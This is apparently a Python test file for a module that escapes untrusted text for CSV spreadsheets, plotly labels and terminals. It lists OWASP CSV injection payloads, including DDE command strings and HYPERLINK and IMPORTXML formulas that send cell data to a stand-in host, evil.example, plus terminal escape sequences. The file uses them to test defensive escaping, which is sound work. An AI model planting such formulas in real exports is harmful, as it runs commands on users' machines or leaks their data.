"""Text written by someone else, made safe for a spreadsheet, a plotly label and a terminal."""

import csv
import io
from datetime import datetime

import pandas as pd
from hypothesis import example, given
from hypothesis import strategies as st

from mldebt_core.text_safety import FORMULA_STARTS, csv_cell, csv_text, plotly_text, terminal_text

OWASP_PAYLOADS = [
    "=cmd|' /C calc'!A0", "=1+2", "+1+1", "-2+3", "@SUM(1,1)", "\t=1", "\r=1",
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")', "=IMPORTXML(CONCAT(\"http://evil.example/\",A1),\"//a\")",
    "-cmd|' /C calc'!A0", "@cmd|' /C calc'!A0",
]
"""the OWASP CSV injection payloads (https://owasp.org/www-community/attacks/CSV_Injection), and their variants
with each trigger character"""


def test_every_owasp_payload_gets_a_leading_quote_and_stays_readable():
    assert [csv_cell(payload) for payload in OWASP_PAYLOADS] == ["'" + payload for payload in OWASP_PAYLOADS]
    assert [csv_cell(v) for v in ["churn/train.py", "a=b", "", " =1"]] == ["churn/train.py", "a=b", "", " =1"]


def test_numbers_dates_and_missing_values_stay_as_they_are():
    assert [csv_cell(v) for v in [-2, -0.5, 3, None, True]] == [-2, -0.5, 3, None, True]
    assert csv_cell(datetime(2026, 3, 2)) == datetime(2026, 3, 2)
    assert csv_cell(["=a"]) == ["=a"]  # written as "['=a']"


def test_any_other_object_is_judged_by_the_text_written():
    class Formula:
        def __str__(self):
            return "=1+1"

    assert csv_cell(Formula()) == "'=1+1"


def test_a_frame_as_csv_neutralises_cells_and_column_names_but_not_numbers():
    frame = pd.DataFrame({"=HYPERLINK(\"http://evil.example\")": OWASP_PAYLOADS[:4],
                          "delta": [-1.5, -2, 0, 3],
                          "when": pd.to_datetime(["2026-03-02"] * 4),
                          "plan": pd.Categorical(["@SUM(1,1)", "basic", "@SUM(1,1)", "-x"])})
    rows = list(csv.reader(io.StringIO(csv_text(frame))))
    assert rows[0] == ["'=HYPERLINK(\"http://evil.example\")", "delta", "when", "plan"]
    assert [row[0] for row in rows[1:]] == ["'" + p for p in OWASP_PAYLOADS[:4]]
    assert [row[1] for row in rows[1:]] == ["-1.5", "-2.0", "0.0", "3.0"]  # negative numbers are numbers
    assert [row[3] for row in rows[1:]] == ["'@SUM(1,1)", "basic", "'@SUM(1,1)", "'-x"]
    assert rows[1][2] == "2026-03-02"


@given(st.lists(st.text(), min_size=1, max_size=5))
def test_no_written_cell_or_header_starts_a_formula(texts):
    frame = pd.DataFrame({text + str(i): [text] for i, text in enumerate(texts)})
    rows = list(csv.reader(io.StringIO(csv_text(frame), newline="")))
    assert all(not cell.startswith(FORMULA_STARTS) for row in rows for cell in row)


@given(st.text())
@example("'")  # a cell that is only the quote stays as it is (the removeprefix form of this check failed on it)
def test_a_cell_never_starts_a_formula_and_keeps_its_text(text):
    cell = csv_cell(text)
    assert not cell.startswith(FORMULA_STARTS) and cell in (text, "'" + text)


@given(st.text())
def test_plotly_text_has_no_markup_and_shows_as_typed(text):
    shown = plotly_text(text)
    assert "<" not in shown and ">" not in shown
    assert shown.replace("&lt;", "<").replace("&gt;", ">").replace("&amp;", "&") == text


def test_a_link_in_a_name_is_text_for_plotly():
    assert plotly_text('<a href="https://evil.example">R</a>') == '&lt;a href="https://evil.example"&gt;R&lt;/a&gt;'


@given(st.text())
def test_terminal_text_has_no_control_character(text):
    shown = terminal_text(text)
    assert not any(ord(c) < 0x20 and c != "\t" or 0x7f <= ord(c) <= 0x9f for c in shown)
    assert "\n" not in shown
    assert terminal_text(text, newlines=True).count("\n") == text.count("\n")


def test_escape_sequences_show_visibly():
    assert terminal_text("train\x1b[2J\x1b]0;pwned\x07.py") == "train\\x1b[2J\\x1b]0;pwned\\x07.py"
    assert terminal_text("a\rb\nc\u202ed\x9b") == "a\\x0db\\x0ac\\u202ed\\x9b"
    assert terminal_text("one\ttwo\nthree", newlines=True) == "one\ttwo\nthree"


def test_a_carriage_return_inside_a_cell_cannot_start_a_new_row():
    frame = pd.DataFrame({"message": ["fine\r=1+1", "\r=1"], "n": [1, 2]})
    rows = list(csv.reader(io.StringIO(csv_text(frame), newline="")))
    assert rows == [["message", "n"], ["fine\r=1+1", "1"], ["'\r=1", "2"]]


def test_for_a_terminal_cells_show_control_characters_visibly_and_rows_end_in_lf():
    frame = pd.DataFrame({"\x1b[31mname": ["a\x1b[2Jb", "\t=1"]})
    assert csv_text(frame, terminal=True) == "\\x1b[31mname\na\\x1b[2Jb\n'\t=1\n"
